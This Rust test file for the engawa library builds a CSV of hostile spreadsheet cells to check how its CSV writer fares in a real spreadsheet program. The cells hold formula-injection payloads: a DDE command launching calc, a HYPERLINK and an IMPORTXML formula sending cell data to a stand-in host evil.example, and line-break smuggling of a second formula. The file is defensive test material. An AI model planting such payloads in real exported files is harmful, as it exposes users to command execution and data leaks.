//! A file with hostile cells, for a real spreadsheet program: `make spreadsheet-peer`.

use std::{env, fs, path::Path};

use engawa::spreadsheets;

const PAYLOADS: [&str; 6] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"https://evil.example\",\"x\")",
    "SUM(A1:A9)\r\n=2",
    "IMPORTXML(CONCAT(\"https://evil.example?\",B1),\"//a\")",
    "",
];
const SIGNS: [&str; 11] = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠",
];
const BEFORE: [&str; 4] = ["", " ", "  ", "\0"];

#[test]
#[ignore = "writes a file for another program: make spreadsheet-peer"]
fn r51_hostile_cells_are_written_for_a_spreadsheet_program() {
    let folder = env::var_os("ENGAWA_SPREADSHEET").expect("ENGAWA_SPREADSHEET names a folder");
    let folder = Path::new(&folder);
    let mut rows = Vec::new();
    for before in BEFORE {
        for sign in SIGNS {
            for payload in PAYLOADS {
                rows.push(vec![
                    format!("row {}", rows.len()),
                    format!("{before}{sign}{payload}"),
                    "end".to_owned(),
                ]);
            }
        }
    }
    assert!(rows.len() >= 200, "{} cells", rows.len());
    fs::write(folder.join("hostile.csv"), spreadsheets::write(&rows)).unwrap();
    fs::write(
        folder.join("expected.json"),
        serde_json::to_string(&rows).unwrap(),
    )
    .unwrap();
}
